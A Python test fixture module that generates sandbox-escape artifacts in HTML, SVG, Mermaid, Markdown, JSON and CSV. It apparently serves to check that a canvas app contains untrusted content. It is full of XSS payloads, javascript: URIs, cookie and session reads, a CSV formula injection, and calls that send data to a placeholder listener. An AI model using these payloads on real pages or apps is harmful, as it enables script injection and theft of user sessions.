"""Artifacts that try to get out: into the page that shows them, its session, or the network.

Whatever reaches out does so to `{listener}` (a loopback address that counts who comes); whatever runs in the page that
shows it sets `window.owned` there. HTML artifacts tell what they got by `postMessage`.
"""

from typing import Final

_HTML: Final = """<!doctype html>
<base href="http://{listener}/base/">
<meta http-equiv="refresh" content="3;url=http://{listener}/refresh">
<link rel="stylesheet" href="http://{listener}/sheet.css"><link rel="preload" as="image" href="http://{listener}/preload">
<link rel="prefetch" href="http://{listener}/prefetch"><link rel="preconnect" href="http://{listener}/">
<link rel="dns-prefetch" href="http://{listener}/"><link rel="icon" href="http://{listener}/icon">
<link rel="modulepreload" href="http://{listener}/module"><link rel="manifest" href="http://{listener}/manifest">
<style>@import "http://{listener}/import.css"; @font-face {{ font-family: x; src: url(http://{listener}/font) }}
  body {{ background: url(http://{listener}/css); font-family: x }} input[value^=s] {{ background: url(http://{listener}/leak) }}</style>
<input value="secret"><img src="http://{listener}/img" onerror="parent.owned = 1">
<video src="http://{listener}/video" poster="http://{listener}/poster"></video><audio src="http://{listener}/audio"></audio>
<object data="http://{listener}/object"></object><embed src="http://{listener}/embed">
<iframe src="http://{listener}/frame"></iframe><iframe srcdoc="<img src='http://{listener}/nested'>"></iframe>
<iframe src="/api/session" id="session"></iframe><svg><image href="http://{listener}/svg"></image></svg>
<form id="form" action="http://{listener}/form" method="post"><input name="a" value="b"></form>
<a id="link" href="http://{listener}/link" ping="http://{listener}/ping">x</a>
<a id="top" target="_top" href="http://{listener}/top">x</a><a id="blank" target="_blank" href="http://{listener}/blank">x</a>
<script src="http://{listener}/script.js"></script>
<script>
const got = {{}};
const attempt = (name, run) => {{ try {{ got[name] = String(run()) }} catch (error) {{ got[name] = "refused: " + error.name }} }};
attempt("origin", () => self.origin);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length + sessionStorage.length);
attempt("database", () => indexedDB.open("x").readyState);
attempt("parent", () => parent.document.title);
attempt("owned", () => {{ parent.owned = 1; return "set" }});
attempt("top", () => {{ top.location = "http://{listener}/toplocation"; return "set" }});
attempt("element", () => frameElement.tagName);
attempt("open", () => open("http://{listener}/open"));
attempt("beacon", () => navigator.sendBeacon("http://{listener}/beacon", "x"));
attempt("socket", () => {{ new WebSocket("ws://{listener}/socket"); return "made" }});
attempt("events", () => {{ new EventSource("http://{listener}/events"); return "made" }});
attempt("request", () => {{ const r = new XMLHttpRequest(); r.open("GET", "http://{listener}/xhr", false); r.send(); return "sent" }});
attempt("image", () => {{ new Image().src = "http://{listener}/image"; return "made" }});
attempt("worker", () => {{ new Worker(URL.createObjectURL(new Blob(["fetch('http://{listener}/worker')"]))); return "made" }});
attempt("eval", () => (0, eval)("1 + 1"));
const pages = ["http://{listener}/fetch", "/api/session", "/api/canvas/canvases", "http://{listener}/post"];
Promise.allSettled(pages.map((url) => fetch(url, {{ method: url.endsWith("post") ? "POST" : "GET", mode: "no-cors", credentials: "include" }})))
  .then((all) => {{ got.fetched = all.filter((one) => one.status === "fulfilled").length; }})
  .then(() => import("http://{listener}/import.js")).catch(() => 0)
  .then(() => navigator.serviceWorker?.register("http://{listener}/service.js")).catch(() => 0)
  .finally(() => {{
    parent.postMessage({{ report: got }}, "*");
    // As the page's own messages look: nothing may come of them.
    for (const said of [{{ ready: true }}, {{ id: 1, svg: "<svg onload='owned=1'/>" }}, {{ type: "navigate", url: "javascript:owned=1" }}]) parent.postMessage(said, "*");
    attempt("form", () => {{ document.getElementById("form").submit(); return "sent" }});
    for (const id of ["blank", "top", "link"]) attempt(id, () => {{ document.getElementById(id).click(); return "clicked" }});
    setTimeout(() => {{ location.href = "http://{listener}/self?" + document.title; }}, 300);
    setTimeout(() => {{ location.href = "javascript:parent.owned=1"; }}, 100);
  }});
</script>"""

_SVG: Final = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="owned=1;parent.owned=1">
<script>parent.owned = 1; top.owned = 1; fetch("http://{listener}/svg-script")</script>
<style>@import url("http://{listener}/svg-import"); rect {{ fill: url(http://{listener}/svg-fill#a) }}</style>
<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="http://{listener}/svg-html" onerror="parent.owned=1"/><iframe src="javascript:parent.owned=1"></iframe></body></foreignObject>
<use href="http://{listener}/svg-use#a"/><use href="data:image/svg+xml,&lt;svg id='a' onload='owned=1'/&gt;#a"/>
<image href="http://{listener}/svg-image" xlink:href="http://{listener}/svg-xlink"/><feImage href="http://{listener}/svg-fe"/>
<a href="javascript:parent.owned=1"><rect width="50" height="50" fill="red" onclick="parent.owned=1" onmouseover="parent.owned=1"/></a>
<animate attributeName="href" values="javascript:parent.owned=1"/><set attributeName="onmouseover" to="parent.owned=1"/>
<rect x="50" width="50" height="50" fill="green"/></svg>"""

_MERMAID: Final = """%%{{init: {{"securityLevel": "loose", "htmlLabels": true, "flowchart": {{"htmlLabels": true}}, "themeCSS": "* {{ background: url(http://{listener}/mermaid-css) }}", "secure": []}}}}%%
flowchart LR
  A["<img src='http://{listener}/mermaid-img' onerror='parent.owned=1;owned=1'>"] --> B["<script>parent.owned=1</script>x"]
  B --> C
  click A call alert("owned")
  click A href "javascript:parent.owned=1" "x" _self
  click B "http://{listener}/mermaid-link"
  style A fill:red
"""

# Its library asks for the picture to know its size: in a frame that reaches nothing that ends the drawing.
_MERMAID_PICTURE: Final = """flowchart LR
  A@{{ img: "http://{listener}/mermaid-node", label: "x", pos: "t", w: 60, h: 60 }}
"""

_MARKDOWN: Final = """# Hello

<script>owned = 1</script><img src="http://{listener}/md-html" onerror="owned=1"><iframe srcdoc="<script>parent.owned=1</script>"></iframe>
<a href="javascript:owned=1" onclick="owned=1">a</a> <style>body {{ background: url(http://{listener}/md-css) }}</style>

![x](http://{listener}/md-image) [one](javascript:owned=1) [two](JaVaScRiPt:owned=1) [three](data:text/html,<script>owned=1</script>)
[four](vbscript:x) <javascript:owned=1> ![five](javascript:owned=1) [ref][1]

[1]: javascript:owned=1

```mermaid
flowchart LR
  A["<img src=http://{listener}/md-mermaid onerror=parent.owned=1>"] --> B
  click A href "javascript:parent.owned=1"
```

$$\\href{{javascript:owned=1}}{{x}} \\url{{javascript:owned=1}} \\includegraphics{{http://{listener}/md-tex}}$$
"""

_TEXT: Final = "<script>owned=1</script><img src=http://{listener}/text onerror=owned=1><svg onload=owned=1>"


def artifacts(listener: str) -> list[dict[str, object]]:
    """One of every type, each with all that is known to have got out of others' canvases."""
    bodies = [
        ("html", _HTML),
        ("svg", _SVG),
        ("mermaid", _MERMAID),
        ("mermaid", _MERMAID_PICTURE),
        ("markdown", _MARKDOWN),
        ("code", _TEXT),
        ("json", '{{"a": "' + _TEXT.replace('"', "'") + '"}}'),
        ("table", "=cmd()," + _TEXT.replace(",", "") + "\n1,2\n"),
    ]
    return [
        {
            "type": type_, "title": f"<img src=http://{listener}/title onerror=owned=1>", "content": body.format(listener=listener),
            "position": {"x": 520 * (at % 3), "y": 400 * (at // 3)}, "size": {"width": 480, "height": 360},
        }
        for at, (type_, body) in enumerate(bodies)
    ]  # fmt: skip
